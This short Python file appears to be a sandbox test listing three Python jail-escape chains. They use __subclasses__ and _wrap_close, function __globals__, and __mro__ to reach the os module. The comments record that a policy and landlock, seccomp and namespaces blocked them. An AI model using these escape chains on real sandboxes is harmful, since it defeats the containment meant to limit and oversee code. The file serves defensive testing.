# tries: the chain from any object to every class of the interpreter
# on: policy; rejected "invalid attribute name"
# off: landlock, seccomp, namespaces; held


def by_subclasses(ctx):
    classes = ().__class__.__base__.__subclasses__()  # refused
    wrap = next(kind for kind in classes if kind.__name__ == "_wrap_close")
    return loot(wrap.__init__.__globals__["sys"].modules["os"], ctx.params)


def by_globals(ctx):
    return loot(ctx.post.__func__.__globals__["json"].codecs.sys.modules["os"], ctx.params)


def by_mro(ctx):
    return loot(type(ctx).__mro__[1].__subclasses__()[0].os, ctx.params)


ATTEMPTS = [by_subclasses, by_globals, by_mro]
